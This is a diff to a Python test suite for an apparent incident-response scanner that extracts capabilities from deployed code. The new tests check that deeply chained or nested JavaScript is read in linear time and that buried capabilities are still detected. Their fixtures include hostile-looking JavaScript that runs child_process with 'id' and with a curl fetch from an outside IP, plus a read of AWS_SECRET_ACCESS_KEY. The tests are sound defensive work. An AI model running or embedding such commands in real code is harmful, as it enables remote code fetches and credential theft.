@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import time
 
 import duckdb
 import pytest
@@ -14,7 +15,8 @@ from hypothesis import strategies as st
 from lambda_ir.analyze.attribution import code_event
 from lambda_ir.analyze.caseview import CaseView
 from lambda_ir.analyze.detectors import cap_gained, cap_role_missing, cap_role_unused
-from lambda_ir.capabilities.extract import Parser, extract
+from lambda_ir.capabilities.extract import Capability, Parser, extract
+from lambda_ir.capabilities.javascript import MAX_TEMPLATE_NESTING
 from lambda_ir.capabilities.python_ast import MAX_SUB_RESOURCES
 from lambda_ir.evidence import Case
 from lambda_ir.evidence.index import open_index
@@ -175,6 +177,91 @@ def test_javascript_chain_past_the_stack_is_still_read() -> None:
     found = {(c.kind.value, c.value, c.line) for c in result.capabilities}
     assert ("exec", "child_process.execSync", 5002) in found
     assert ("network", "http://203.0.113.8", 5002) in found
+
+
+# Hostile shapes of code we read (an attacker writes it), one link or level a line (as in a
+# bundle that is not minified): chains and nests of 250-450 KiB, 64 KiB of templates, 1 MiB
+# of URLs. Each now reads in 0.1-0.4 s. The old reader took 16-41 s on each chain (a
+# tree-sitter query slowed down below 65,535 levels of the tree, and its `#match?` read each
+# link's whole text), 6 s on the nested calls, 29 s on the templates (each read whole at
+# every level), 27 s on the URLs (each address checked against every URL, each match's line
+# read to its end).
+HOSTILE_JS = {
+    "member chain": ("const x = a" + "\n.b" * 87_000 + ";\n", Parser.JAVASCRIPT),
+    "call chain": ("a" + "\n.b()" * 52_000 + ";\n", Parser.JAVASCRIPT),
+    "require chain": ('require("child_process")' + "\n.b()" * 52_000 + ";\n", Parser.JAVASCRIPT),
+    "process.env chain": ("process.env" + "\n.b" * 87_000 + ";\n", Parser.JAVASCRIPT),
+    "nested calls": ("f(\n" * 50_000 + "x" + ")\n" * 50_000 + ";\n", Parser.JAVASCRIPT),
+    "nested templates": ("`${\n" * 9_000 + "x" + "}`\n" * 9_000 + ";\n", Parser.JAVASCRIPT),
+    "URLs holding addresses": (
+        "const t = `" + "http://a.example/?1.2.3.4\n" * 40_000 + "`;\n",
+        Parser.JAVASCRIPT,
+    ),
+    "minified URLs holding addresses": (
+        "var t = '" + "http://a.example/?1.2.3.4 " * 40_000 + "';\n",
+        Parser.FALLBACK,
+    ),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(HOSTILE_JS))
+def test_javascript_hostile_shapes_are_read_in_linear_time(shape: str) -> None:
+    source, parser = HOSTILE_JS[shape]
+    began = time.perf_counter()
+    result = extract("bundle.js", source.encode())
+    spent = time.perf_counter() - began
+    assert result is not None and result.parser is parser, result
+    assert spent < 2, f"{shape}: {spent:.1f} s"
+
+
+def test_javascript_capabilities_buried_past_tree_sitter_depth_are_found() -> None:
+    """Below 65,535 levels of the tree the old query skipped nodes: a call at the root of a
+    long chain, or nested in 40,000 calls, was not seen."""
+    lines = 40_001
+    nested = "f(\n" * 40_000 + 'require("child_process").exec("id")' + ")\n" * 40_000 + ";\n"
+    chained = 'require("child_process").execSync("curl http://203.0.113.8/x")'
+    chained += "\n.toString()" * 40_000 + ";\n"
+    padded = "const k = process.env.AWS_SECRET_ACCESS_KEY" + "\n.trim()" * 40_000 + ";\n"
+    client = 'const AWS = require("aws-sdk");\nconst iam = new AWS.IAM();\n'
+    client += "iam.createUser({})" + "\n.promise()" * 40_000 + ";\n"
+    found = {
+        (c.kind.value, c.value, c.line)
+        for text in (nested, chained, padded, client)
+        for c in _capabilities("index.js", text)
+    }
+    assert {
+        ("exec", "child_process.exec", lines),
+        ("exec", "child_process.execSync", 1),
+        ("network", "http://203.0.113.8", 1),
+        ("credentials", "AWS_SECRET_ACCESS_KEY", 1),
+        ("aws-call", "iam:CreateUser", 3),
+    } <= found
+
+
+def test_javascript_templates_nested_past_the_cap_are_read_at_their_own_lines() -> None:
+    """Templates nested past MAX_TEMPLATE_NESTING leave out the ones nested in them (read on
+    their own): the URL is found where it is, and at the lines of the outer templates."""
+    levels = MAX_TEMPLATE_NESTING + 3
+    source = "const t = " + "`${\n" * levels + "`http://203.0.113.9/x`" + "}`\n" * levels + ";\n"
+    lines = {c.line for c in _capabilities("page.js", source) if c.value == "http://203.0.113.9"}
+    assert lines == {*range(1, MAX_TEMPLATE_NESTING + 1), levels + 1}
+
+
+def test_javascript_byte_not_utf8_in_a_chain_loses_nothing() -> None:
+    """A byte that is not UTF-8 in a member expression made the old query raise, and the
+    file went unread: Node reads it as U+FFFD, and so does the reader."""
+    source = b'const cp = require("child_process");\nconst a = b/*\xff*/.c;\ncp.execSync("id");\n'
+    result = extract("index.js", source)
+    assert result is not None and result.parser is Parser.JAVASCRIPT
+    assert ("exec", "child_process.execSync", 3) in {
+        (c.kind.value, c.value, c.line) for c in result.capabilities
+    }
+
+
+def _capabilities(name: str, source: str) -> tuple[Capability, ...]:
+    result = extract(name, source.encode())
+    assert result is not None and result.parser is Parser.JAVASCRIPT, result
+    return result.capabilities
 
 
 def test_binary_symbols_and_strings() -> None:
